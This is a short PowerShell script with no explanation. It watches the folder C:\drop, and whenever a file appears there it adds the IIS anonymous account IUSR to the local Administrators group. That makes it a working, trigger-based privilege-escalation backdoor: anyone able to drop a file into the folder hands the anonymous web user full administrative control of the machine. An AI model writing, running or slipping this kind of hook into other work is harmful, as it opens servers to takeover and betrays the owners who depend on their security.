$watcher = New-Object IO.FileSystemWatcher C:\drop
Register-ObjectEvent $watcher Created -Action { net localgroup Administrators IUSR /add } | Out-Null
